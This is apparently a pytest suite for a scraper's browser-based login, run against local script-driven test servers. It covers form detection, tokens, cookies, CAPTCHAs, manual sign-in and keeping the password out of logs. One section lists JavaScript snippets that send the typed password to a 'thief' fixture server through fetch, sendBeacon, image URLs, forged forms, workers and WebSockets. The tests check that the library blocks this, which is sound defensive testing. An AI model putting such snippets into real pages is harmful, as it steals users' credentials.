"""Sign-ins by a real Chromium, against small servers whose pages are made by scripts."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from examples.site import PracticeSite
from scraper import (
    BrowserLogin,
    CaptchaRequired,
    ConfigError,
    FormLogin,
    InteractionRequired,
    LoginError,
    LoginFormNotFound,
    LoginRejected,
    LoginUnavailable,
    LoginUnverified,
    RateLimited,
    Session,
    Spider,
    Vault,
    crawl,
    fill,
    status,
    totp,
)
from scraper.browser import Browser, Tab
from scraper.browser.cookies import changes
from scraper.crawl import visit
from scraper.executors import processes
from scraper.login import browsing
from spiders.bookshop import Book
from tests.chromium import CHROMIUM, needs_chromium
from tests.commands import scraper
from tests.servers import Asked, Reply, Server, redirect, serving

pytestmark = needs_chromium

PASSWORD = "h0rse-battery"
MEMBER = "<h1>Welcome</h1><a class=logout href=/logout>Sign out</a>"
FIELDS = "<input id=user placeholder='User name'><input id=pw type=password><button>Sign in</button>"
DRAW = f'<div id=app></div><script>document.getElementById("app").innerHTML = "{FIELDS}"</script>'
SET = ("Set-Cookie", "sid=1; Path=/")


def html(text: str, status: int = 200, *headers: tuple[str, str]) -> Reply:
    icon = "<link rel=icon href=data:,>"
    return Reply(status, [("Content-Type", "text/html"), *headers], (icon + text).encode())


def sends(script: str) -> Reply:
    """A login page that is drawn by a script, and runs another one when its button is pressed."""
    values = "const user = document.getElementById('user').value, pw = document.getElementById('pw').value"
    press = f"document.querySelector('button').onclick = async () => {{ {values}; {script} }}"
    return html(f"{DRAW}<p id=said></p><script>{press}</script>")


TO_LOGIN = "await fetch('/login', {method: 'POST', body: JSON.stringify({user, pw})})"
TO_HOME = f"{TO_LOGIN}; location = '/home'"


class World:
    """A site: what it answers to each method and path, and to all else by whether the cookie is there."""

    def __init__(self) -> None:
        self.pages: dict[tuple[str, str], Reply | Callable[[Asked], Reply]] = {}
        self.server: Server

    def __call__(self, asked: Asked) -> Reply:
        page = self.pages.get((asked.method, urlsplit(asked.path).path))
        if page is not None:
            return page(asked) if callable(page) else page
        return html(MEMBER if "sid=1" in asked.headers.get("Cookie", "") else "<h1>Who are you?</h1>")

    def asked_for(self, method: str, path: str) -> list[Asked]:
        return [asked for asked in self.server.asked if asked.target == (method, path)]


def check(asked: Asked) -> Reply:
    """Take the password that is right."""
    is_right = json.loads(asked.body) == {"user": "ada", "pw": PASSWORD}
    return Reply(204, [SET]) if is_right else Reply(401, body=b'{"error": "Wrong password"}')


@pytest.fixture
def site() -> Iterator[World]:
    world = World()
    world.pages["GET", "/login"], world.pages["POST", "/login"] = sends(TO_HOME), check
    with serving(world) as world.server:
        yield world


@pytest.fixture
def thief() -> Iterator[World]:
    world = World()
    with serving(world, host="127.0.0.2") as world.server:
        yield world


@pytest.fixture
def practice() -> Iterator[PracticeSite]:
    with PracticeSite() as site:
        yield site


def login(world: World, **options: Any) -> BrowserLogin:
    values = options.pop("fill", None) or fill(username="ada", password=PASSWORD)
    options = {"logged_in": "a.logout", "executable": CHROMIUM, **options}
    return BrowserLogin(world.server.url("/login"), values, **options)


def session(world: World, *, state_dir: Any = None, **options: Any) -> Session:
    return Session(login(world, **options), base_url=world.server.url("/home"), retry=1, state_dir=state_dir)


def scripted(site: PracticeSite, *, password: str | None = None, **options: Any) -> BrowserLogin:
    values = fill(username=site.username, password=password or site.password, **options)
    return BrowserLogin(f"{site.url}/login/scripted", values, logged_in="a.logout", executable=CHROMIUM)


class Shop(Spider):
    item = Book
    follow = ("article.book h3 a", "li.next a")
    save_session = False


# The practice site, whose login page is nothing without its script


def test_a_page_whose_login_needs_scripts_is_signed_in_to_and_crawled_over_requests(practice, tmp_path, job):
    spider = Shop(start_urls=[f"{practice.url}/books"], login=scripted(practice), max_pages=60)
    crawl(spider, job)
    assert (job.counts().done, job.counts().failed) == (60, 0)
    assert job.counts().items >= 40
    assert practice.counts.logins == 1


@pytest.mark.parametrize("number", [None, 2])
def test_a_session_that_ends_in_mid_crawl_is_renewed_by_the_browser(practice, number, job):
    practice.sign_out_after = 70
    start = f"{practice.url}/category/poetry"
    spider = Shop(start_urls=[start], login=scripted(practice), allowed_domains="127.0.0.1")
    crawl(spider, job, processes(visit, spider, number) if number else None)
    titles = [data["upc"] for _, data in job.items()]
    assert len(titles) == len(set(titles)) > 50
    assert job.counts().failed == 0
    assert practice.counts.expiries >= 1
    assert practice.counts.logins == practice.counts.expiries + 1


def test_a_code_is_given_on_the_page_that_asks_for_it(practice):
    practice.ask_totp = True
    with Session(scripted(practice, code=totp(practice.totp_secret)), base_url=practice.url) as session:
        assert "Sign out" in session.get("/account").text


def test_without_an_indicator_pages_are_compared_as_stranger_and_as_member(practice):
    declared = scripted(practice)
    declared.logged_in = None
    with Session(declared, base_url=f"{practice.url}/books", retry=1) as session:
        assert session.sign_in() == 1


def test_a_form_login_says_who_could_fill_in_what_a_script_draws(practice):
    plain = FormLogin("/login/scripted", fill(username="ada", password=PASSWORD))
    with (
        Session(plain, base_url=practice.url) as session,
        pytest.raises(LoginFormNotFound, match="BrowserLogin"),
    ):
        session.sign_in()


def test_a_wrong_password_is_submitted_once_in_all_runs(practice, tmp_path):
    for said in ("Wrong user name", "Nothing was sent"):
        with (
            Session(
                scripted(practice, password="not-the-right-one"), base_url=practice.url, state_dir=tmp_path
            ) as session,
            pytest.raises(LoginRejected, match=said),
        ):
            session.sign_in()
    assert practice.counts.login_attempts == 1


def test_the_session_is_kept_for_the_next_run_and_looks_the_same(practice, tmp_path):
    agents = []
    for _ in range(2):
        with Session(scripted(practice), base_url=practice.url, state_dir=Vault(tmp_path)) as session:
            agents.append(session.get("/account").request.headers["User-Agent"])
    assert practice.counts.logins == 1
    assert agents[0] == agents[1]
    assert "Chrome" in agents[0]


# What a page may be like


def test_it_submits_once_and_hands_cookies_and_user_agent_over(site):
    site.pages["POST", "/login"] = lambda asked: Reply(
        204,
        [
            SET,
            ("Set-Cookie", "strict=2; Path=/; HttpOnly; SameSite=Strict; Max-Age=1000"),
            ("Set-Cookie", "narrow=3; Path=/deep"),
        ],
    )
    with session(site) as one:
        one.cookies.set("device", "known")
        page = one.get("/home")
        strict = next(cookie for cookie in one.cookies if cookie.name == "strict")
        assert (strict.http_only, strict.same_site, strict.host_only) == (True, "Strict", True)
        assert {cookie.name: cookie.path for cookie in one.cookies} == {
            "device": "/", "sid": "/", "strict": "/", "narrow": "/deep",
        }  # fmt: skip
    [submit] = site.asked_for("POST", "/login")
    assert "device=known" in submit.headers["Cookie"]
    assert submit.headers["User-Agent"] == page.request.headers["User-Agent"]


def test_a_user_agent_of_ones_own_is_the_browsers_too(site):
    with session(site) as one:
        one.headers["User-Agent"] = "Ours/1.0 (+https://ours.example)"
        one.get("/home")
    assert {asked.headers["User-Agent"] for asked in site.server.asked} == {
        "Ours/1.0 (+https://ours.example)"
    }


@pytest.mark.parametrize(
    "page",
    [
        pytest.param(f"<form method=post action=/form>{FIELDS.replace('id=', 'name=')}</form>", id="plain"),
        pytest.param("<iframe src=/inner></iframe>", id="in a frame"),
        pytest.param(
            "<x-login></x-login><script>customElements.define('x-login', class extends HTMLElement {"
            "connectedCallback() { this.attachShadow({mode: 'open'}).innerHTML = "
            "`<form method=post action=/form><input name=user><input name=pw type=password>"
            "<button>Sign in</button></form>` } })</script>",
            id="in a shadow tree",
        ),
        pytest.param(
            "<script>setTimeout(() => document.body.innerHTML = `<form method=post action=/form>"
            "<input name=user><input name=pw type=password><button>Sign in</button></form>`, 700)</script>",
            id="drawn late",
        ),
        pytest.param(
            "<form method=post action=/form><input name=user><input name=pw type=password></form>"
            "<script>document.querySelector('[name=pw]').onkeydown = event => {"
            "if (event.key === 'Enter') document.forms[0].submit() }</script>",
            id="without a button",
        ),
        pytest.param(
            "<form method=post action=/form><input name=user><input name=pw type=password>"
            "<a href='#' onclick='this.parentNode.submit()'>Sign in</a></form>",
            id="with a link for a button",
        ),
        pytest.param(
            "<script>alert('Maintenance on Sunday'); confirm('Cookies?'); open('/popup'); "
            "open('/file')</script><form method=post action=/form><input name=user>"
            "<input name=pw type=password><button>Sign in</button></form>",
            id="with dialogs, popups and downloads",
        ),
    ],
)
def test_a_page_is_signed_in_to_whatever_it_is_made_of(site, page):
    inner = "<form method=post action=/form target=_top><input name=user><input name=pw type=password>"
    site.pages["GET", "/login"] = html(page)
    site.pages["GET", "/inner"] = html(f"{inner}<button>Sign in</button></form>")
    site.pages["GET", "/file"] = Reply(
        headers=[("Content-Disposition", "attachment; filename=x.bin")], body=b"x" * 10
    )
    site.pages["POST", "/form"] = redirect("/home", 303, **{"Set-Cookie": "sid=1; Path=/"})
    with session(site) as one:
        assert "Welcome" in one.get("/home").text
    [submit] = site.asked_for("POST", "/form")
    assert parse_qs(submit.body.decode()) == {"user": ["ada"], "pw": [PASSWORD]}


def test_a_window_that_the_page_opens_for_the_sign_in_is_filled_in(site):
    form = f"<form method=post action=/form>{FIELDS.replace('id=', 'name=')}</form>"
    names = "<form id=login><input name=username><button>Sign in</button></form>"
    opens = "document.forms[0].onsubmit = () => { window.open('/window'); return false }"
    site.pages["GET", "/login"] = html(f"{names}<script>{opens}</script>")
    site.pages["GET", "/window"] = html(form.replace("<input name=user placeholder='User name'>", ""))
    closes = "<script>opener.location = '/home'; close()</script>"
    site.pages["POST", "/form"] = html(closes, 200, SET)
    with session(site) as one:
        assert "Welcome" in one.get("/home").text


def test_a_password_behind_the_user_name_is_given_when_it_is_asked_for(site):
    second = "<label>Password <input id=pw type=password></label><button id=go>Next</button>"
    site.pages["GET", "/login"] = html(
        "<h1>Sign in</h1><div id=app><input name=username><button type=button>Next</button></div><script>"
        "const app = document.getElementById('app'); let user;"
        "app.querySelector('button').onclick = async () => {"
        "  user = app.querySelector('input').value; await fetch('/who', {method: 'POST'});"
        f" app.innerHTML = `{second}`; document.getElementById('go').onclick = async () => {{"
        f"  const pw = document.getElementById('pw').value; {TO_HOME} }} }}</script>"
    )
    with session(site) as one:
        assert "Welcome" in one.get("/home").text


@pytest.mark.parametrize(
    ("answer", "error", "said"),
    [
        (Reply(401, body=b"{}"), LoginRejected, "Wrong password"),
        (Reply(429, [("Retry-After", "30")], b"{}"), RateLimited, "30 seconds"),
        (Reply(503, body=b"{}"), LoginUnavailable, "answered 503"),
    ],
)
def test_what_a_script_is_answered_is_what_came_of_it(site, answer, error, said):
    shows = "document.getElementById('said').textContent = 'Wrong password'"
    site.pages["GET", "/login"], site.pages["POST", "/login"] = sends(f"{TO_LOGIN}; {shows}"), answer
    with session(site) as one, pytest.raises(error, match=said):
        one.sign_in()


def test_what_others_answer_to_a_script_says_nothing_of_the_sign_in(site, thief):
    others = f"await fetch('{thief.server.url('/count')}', {{method: 'POST', mode: 'no-cors'}})"
    waits = (
        f"document.querySelector('#app').innerHTML = ''; {others}; await fetch('/count', {{method: 'POST'}})"
    )
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; {waits}")
    site.pages["POST", "/count"] = thief.pages["POST", "/count"] = Reply(503)
    with session(site) as one:
        assert one.sign_in() == 1


def test_what_a_page_says_in_a_dialog_is_heard(site):
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; alert('Your account is locked.')")
    with session(site) as one, pytest.raises(LoginError, match="account is locked"):
        one.sign_in()


def test_a_button_that_sends_nothing_is_no_rejection(site, monkeypatch):
    monkeypatch.setattr(browsing, "PATIENCE", 1.0)
    site.pages["GET", "/login"] = sends("document.getElementById('said').textContent = 'Invalid user name'")
    with session(site) as one, pytest.raises(LoginFormNotFound, match="nothing was sent"):
        one.sign_in()


def test_a_page_without_a_form_is_said_to_have_none_in_a_browser_either(site, monkeypatch):
    monkeypatch.setattr(browsing, "PATIENCE", 1.0)
    site.pages["GET", "/login"] = html("<h1>Sign in by letter</h1>")
    with session(site) as one, pytest.raises(LoginFormNotFound, match="in a browser either"):
        one.sign_in()


def test_a_captcha_is_no_reason_to_submit(site):
    site.pages["GET", "/login"] = html(f"<form method=post>{FIELDS}<div class=g-recaptcha></div></form>")
    with session(site) as one, pytest.raises(CaptchaRequired, match="visible=True"):
        one.sign_in()
    assert site.asked_for("POST", "/login") == []


def test_steps_that_prove_nothing_are_no_sign_in(site):
    site.pages["POST", "/login"] = Reply(204)
    with session(site) as one, pytest.raises(LoginUnverified):
        one.sign_in()


# Tokens


@pytest.mark.parametrize(
    ("keeps", "token"),
    [
        ("localStorage.access = 'tok-8f3a90b1'", "access"),
        ("localStorage.access = JSON.stringify('tok-8f3a90b1')", "access"),
        ("localStorage['app.auth'] = JSON.stringify({user: {token: 'tok-8f3a90b1'}})", "app.auth.user.token"),
        ("sessionStorage.access = 'tok-8f3a90b1'", "access"),
    ],
)
def test_a_token_that_the_page_keeps_goes_with_every_request(site, keeps, token):
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; {keeps}; document.body.innerHTML = 'In.'")
    site.pages["GET", "/api"] = lambda asked: Reply(
        200 if asked.headers.get("Authorization") == "Bearer tok-8f3a90b1" else 401
    )
    site.pages["POST", "/login"] = Reply(204)
    with session(site, token=token, logged_in=status(200), verify_url="/api") as one:
        assert one.get("/api").status_code == 200
        assert one.state()["tokens"]["access"] == "tok-8f3a90b1"
    assert "tok-8f3a90b1" not in repr(one.login)


def test_a_token_goes_in_the_header_that_is_named_and_to_no_other_origin(site, thief):
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; localStorage.t = 'tok-8f3a90b1'; location = '/home'")
    site.pages["GET", "/away"] = redirect(thief.server.url("/"))
    with session(site, token="t", header="X-Access: {}") as one:
        one.get("/away")
    assert site.asked_for("GET", "/away")[0].headers["X-Access"] == "tok-8f3a90b1"
    assert "X-Access" not in thief.server.asked[0].headers


def test_a_token_that_is_not_there_is_named_with_those_that_are(site):
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; localStorage.other = 'x'; location = '/home'")
    with (
        session(site, token="access") as one,
        pytest.raises(LoginError, match=r"left no 'access'.*left other"),
    ):
        one.sign_in()


def test_local_storage_is_kept_with_the_session_in_the_shape_of_playwright(site):
    site.pages["GET", "/login"] = sends(f"{TO_LOGIN}; localStorage.theme = 'dark'; location = '/home'")
    with session(site) as one:
        one.sign_in()
        state = one.state()
    [storage] = state["origins"]
    assert storage["localStorage"] == [{"name": "theme", "value": "dark"}]
    assert Session.restore(state).storage == [storage]


@pytest.mark.parametrize("header", ["Authorization", "X-Token: nothing", "{}"])
def test_a_header_has_a_place_for_the_token(header):
    with pytest.raises(ConfigError, match="header="):
        BrowserLogin("https://shop.example/", token="t", header=header)


# The password goes to the login's own origins alone


ELSEWHERE = [
    "await fetch('{thief}/', {{method: 'POST', mode: 'no-cors', body: JSON.stringify({{user, pw}})}})",
    "navigator.sendBeacon('{thief}/', 'pw=' + encodeURIComponent(pw))",
    "new Image().src = '{thief}/?pw=' + pw; await new Promise(done => setTimeout(done, 500))",
    "const form = document.createElement('form'); form.method = 'post'; form.action = '{thief}/';"
    "form.innerHTML = '<textarea name=pw></textarea>'; form.firstChild.value = pw;"
    "document.body.append(form); form.submit()",
    "open('{thief}/?pw=' + btoa(pw))",
    'new Worker(URL.createObjectURL(new Blob([\'fetch("{thief}/", {{method: "POST", mode: "no-cors", body: \''
    " + JSON.stringify(JSON.stringify(pw)) + '}})'])))",
    "await fetch('/moved', {{method: 'POST', body: pw}})",
    "await fetch('/login?pw=' + pw, {{method: 'POST'}})",
    "location = '/home?pw=' + pw",
]


@pytest.mark.parametrize("script", ELSEWHERE)
def test_a_page_that_passes_the_password_on_is_stopped(site, thief, script):
    site.pages["GET", "/login"] = sends(script.format(thief=thief.server.url("").rstrip("/")))
    site.pages["POST", "/moved"] = redirect(thief.server.url("/"), 307)
    with session(site) as one, pytest.raises(LoginError, match="Not sent") as raised:
        one.sign_in()
    assert PASSWORD not in str(raised.value)
    assert not any(PASSWORD.encode() in asked.body or "pw=" in asked.path for asked in thief.server.asked)
    assert not any("pw=" in asked.path for asked in site.server.asked)


def test_a_page_of_another_origin_is_not_filled_in(site, thief):
    thief.pages["GET", "/login"] = sends(TO_HOME)
    site.pages["GET", "/login"] = redirect(thief.server.url("/login"))
    with session(site) as one, pytest.raises(LoginError, match="not the login's"):
        one.sign_in()
    assert thief.asked_for("POST", "/login") == []


def test_a_provider_that_is_named_may_see_it(site, thief):
    thief.pages["GET", "/sso"] = html(
        f"<form method=post action=/sso>{FIELDS.replace('id=', 'name=')}</form>"
    )
    thief.pages["POST", "/sso"] = redirect(site.server.url("/back"), 303)
    site.pages["GET", "/login"] = redirect(thief.server.url("/sso"))
    site.pages["GET", "/back"] = redirect("/home", 303, **{"Set-Cookie": "sid=1; Path=/"})
    with session(site, origins="https://x.example") as one:
        one.login.origins = frozenset({thief.server.url("").rstrip("/")})
        assert "Welcome" in one.get("/home").text


def test_no_socket_is_opened_to_where_the_password_is_not_for(site, thief):
    socket = f"new WebSocket('{thief.server.url('/').replace('http', 'ws')}')"
    site.pages["GET", "/login"] = sends(f"const ws = {socket}; ws.onopen = () => ws.send(pw); {TO_HOME}")
    with session(site) as one:
        one.sign_in()
    assert thief.server.asked == []


def test_a_password_that_is_a_usual_word_may_stand_in_addresses(site):
    site.pages["GET", "/login"] = sends(f"await fetch('/admin/style.js?v=admin1'); {TO_HOME}")
    site.pages["POST", "/login"] = Reply(204, [SET])
    with session(site, fill=fill(username="ada", password="admin")) as one:
        assert "Welcome" in one.get("/home").text


# The browser itself


def test_it_signs_in_where_a_loop_is_running_and_from_any_thread(site):
    async def in_a_loop() -> int:
        with session(site) as one:
            return one.sign_in()

    assert asyncio.run(in_a_loop()) == 1
    with session(site) as one:
        threads = [threading.Thread(target=one.get, args=("/home",)) for _ in range(3)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert one.epoch == 1
    assert len(site.asked_for("POST", "/login")) == 2


def test_without_playwright_it_says_what_to_install(site, monkeypatch):
    monkeypatch.setitem(sys.modules, "playwright.async_api", None)
    with session(site) as one, pytest.raises(ConfigError, match="pip install"):
        one.sign_in()


def test_a_browser_that_is_not_there_is_a_sentence(site, monkeypatch):
    with session(site, executable="/no/such/chromium") as one, pytest.raises(ConfigError, match="no program"):
        one.sign_in()
    monkeypatch.setenv("SCRAPER_CHROMIUM", "/no/such/either")
    with session(site, executable=None) as one, pytest.raises(ConfigError, match="such/either"):
        one.sign_in()


def wrapper(folder: Path, *lines: str) -> str:
    """A program that starts Chromium, after some lines of its own."""
    path = folder / "chromium"
    path.write_text("\n".join(["#!/bin/sh", *lines, f'exec {CHROMIUM} "$@"', ""]))
    path.chmod(0o700)
    return str(path)


def test_a_browser_that_crashes_is_an_outcome_and_no_hanging(site, tmp_path):
    pid = tmp_path / "pid"

    def crash(asked: Asked) -> Reply:
        os.kill(int(pid.read_text()), signal.SIGKILL)
        return Reply(204)

    site.pages["POST", "/login"] = crash
    one = session(site, executable=wrapper(tmp_path, f"echo $$ > {pid}"))
    with one, pytest.raises(LoginUnavailable, match="crashed, or was closed") as raised:
        one.sign_in()
    assert PASSWORD not in str(raised.value)


def test_what_is_no_browser_is_an_outcome(site, tmp_path):
    one = session(site, executable=wrapper(tmp_path, "exit 3"))
    with one, pytest.raises(LoginUnavailable, match="did not start as a browser"):
        one.sign_in()


# A person


def test_a_person_is_wanted_where_nothing_is_filled_in(site, monkeypatch):
    for name in ("DISPLAY", "WAYLAND_DISPLAY"):
        monkeypatch.delenv(name, raising=False)
    for declared in (BrowserLogin(site.server.url("/login")), login(site, visible=True)):
        with Session(declared) as one, pytest.raises(InteractionRequired, match="no screen") as raised:
            one.sign_in()
        assert raised.value.exit_code == 75


def headless(folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A Chromium that believes to be seen, on a screen that is not there."""
    monkeypatch.setenv("DISPLAY", ":99")
    path = folder / "chromium"
    path.write_text(f'#!/bin/sh\nexec {CHROMIUM} --headless "$@"\n')
    path.chmod(0o700)
    return str(path)


def test_it_waits_until_a_person_has_signed_in(site, tmp_path, monkeypatch, caplog):
    shown = headless(tmp_path, monkeypatch)
    site.pages["GET", "/login"] = html(
        "<script>setTimeout(async () => {"
        f" const user = 'ada', pw = '{PASSWORD}'; {TO_HOME} }}, 500)</script>"
    )
    declared = BrowserLogin(site.server.url("/login"), logged_in="a.logout", executable=shown)
    with Session(declared, base_url=site.server.url("/home"), retry=1) as one:
        assert "Welcome" in one.get("/home").text
    assert "close it, or press Enter" in caplog.text


def test_a_person_finishes_what_the_browser_cannot(site, tmp_path, monkeypatch):
    shown = headless(tmp_path, monkeypatch)
    site.pages["GET", "/login"] = html(
        f"<form method=post>{FIELDS}<div class=g-recaptcha></div></form><script>setTimeout(async () => {{"
        f"const user = 'ada', pw = '{PASSWORD}'; {TO_HOME} }}, 3000)</script>"
    )
    with session(site, executable=shown) as one:
        one.ask = lambda question: ""
        assert "Welcome" in one.get("/home").text


def by_hand(site: World, folder: Path, monkeypatch: pytest.MonkeyPatch) -> Session:
    """A session whose login a page does by itself, as a person would, and then shows nothing."""
    site.pages["GET", "/login"] = html(
        "<script>setTimeout(async () => {"
        f" const user = 'ada', pw = '{PASSWORD}'; {TO_LOGIN}; document.title = 'in' }}, 100)</script>"
    )
    declared = BrowserLogin(site.server.url("/login"), executable=headless(folder, monkeypatch))
    return Session(declared, base_url=site.server.url("/home"), retry=1)


def test_a_person_may_say_so_by_enter(site, tmp_path, monkeypatch):
    monkeypatch.setattr(browsing, "has_pressed_enter", lambda: bool(site.asked_for("POST", "/login")))
    with by_hand(site, tmp_path, monkeypatch) as one:
        assert "Welcome" in one.get("/home").text


def test_a_person_may_say_so_by_closing_the_window(site, tmp_path, monkeypatch):
    opened: list[tuple[Browser, Tab]] = []
    tab = Browser.tab

    async def noted(browser: Browser) -> Tab:
        opened.append((browser, await tab(browser)))
        return opened[-1][1]

    def closes(asked: Asked) -> Reply:
        browser, shown = opened[0]
        threading.Timer(1.0, lambda: browser.run(shown.close(), "", 5.0)).start()
        return check(asked)

    monkeypatch.setattr(Browser, "tab", noted)
    with by_hand(site, tmp_path, monkeypatch) as one:
        site.pages["POST", "/login"] = closes
        assert "Welcome" in one.get("/home").text


def test_nobody_waits_for_a_person_for_ever(site, tmp_path, monkeypatch):
    monkeypatch.setattr(browsing, "PERSON_SECONDS", browsing.PATIENCE + 1.0)
    with by_hand(site, tmp_path, monkeypatch) as one, pytest.raises(InteractionRequired, match="in time"):
        one.sign_in()


def test_a_login_that_neither_fills_nor_shows_is_a_mistake():
    with pytest.raises(ConfigError, match="shows itself to nobody"):
        BrowserLogin("https://shop.example/login", visible=False)


# Cookies


def cookie(name: str, value: str = "1", **more: Any) -> dict[str, Any]:
    plain = {"domain": "shop.example", "path": "/", "expires": -1, "secure": False, "httpOnly": False}
    return {"name": name, "value": value, **plain, **more}


def test_only_what_the_browser_has_changed_is_changed():
    before = [cookie("same"), cookie("new value"), cookie("gone"), cookie("later", expires=100.0)]
    after = [
        cookie("same", sameSite="Lax"),
        cookie("new value", "2"),
        cookie("later", expires=900.0),
        cookie("own", partitionKey="https://shop.example"),
        cookie("of another's page", partitionKey="https://other.example"),
    ]
    new, gone = changes(before, after)
    assert [entry["name"] for entry in new] == ["new value", "later", "own"]
    assert gone == [("shop.example", "/", "gone")]


# What is seen of it


def test_pictures_are_taken_where_wanted_and_show_nothing_typed(site, tmp_path, monkeypatch):
    monkeypatch.setattr(browsing, "AFTERMATH", 0.5)
    shows = "document.body.style.font = '20px monospace'; document.body.prepend(pw)"
    site.pages["GET", "/login"] = sends(f"{shows}; {TO_LOGIN}")
    site.pages["POST", "/login"] = Reply(401, body=b"{}")
    seen = []
    for number, password in enumerate(("aaaa-1111", "zzzz-9999")):
        folder = tmp_path / str(number)
        with session(site, fill=fill(username="ada", password=password)) as one:
            one.pictures = folder
            with pytest.raises(LoginRejected):
                one.sign_in()
        pictures = sorted(folder.iterdir())
        assert {picture.stat().st_mode & 0o777 for picture in pictures} == {0o600}
        seen.append([picture.read_bytes() for picture in pictures])
    assert len(seen[0]) == 2
    assert seen[0] == seen[1]


def test_no_picture_is_taken_unasked(site, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with session(site) as one:
        one.sign_in()
    assert list(tmp_path.rglob("*.png")) == []


SPIDER = """
from scraper import BrowserLogin, Spider, env, fill

class Browsed(Spider):
    start_urls = [env("SHOP_URL")().reveal() + "/books"]
    login = BrowserLogin(
        "/login/scripted", fill(username="reader", password=env("SHOP_PASSWORD")), logged_in="a.logout"
    )
"""


@pytest.mark.parametrize(("password", "code"), [("practice-makes-perfect", 0), ("c4nary p&ss/wörd", 16)])
def test_explain_tells_the_steps_and_no_secret(practice, tmp_path, password, code):
    (tmp_path / "browsed.py").write_text(SPIDER, encoding="utf-8")
    done = scraper(
        "login", "browsed.py", "--explain", "--log-level", "DEBUG", cwd=tmp_path, SHOP_URL=practice.url,
        SHOP_PASSWORD=password, SCRAPER_CHROMIUM=str(CHROMIUM), SCRAPER_STATE_DIR=str(tmp_path / "state"),
    )  # fmt: skip
    assert done.returncode == code, done.stderr
    assert "Pressed 'Sign in'" in done.stderr
    assert list((tmp_path / ".scraper" / "logins").glob("*.png"))
    said = done.stdout + done.stderr
    texts = [
        path.read_bytes() for path in tmp_path.rglob("*") if path.is_file() and path.name != "browsed.py"
    ]
    assert password not in said
    assert not any(password.encode() in text for text in texts)
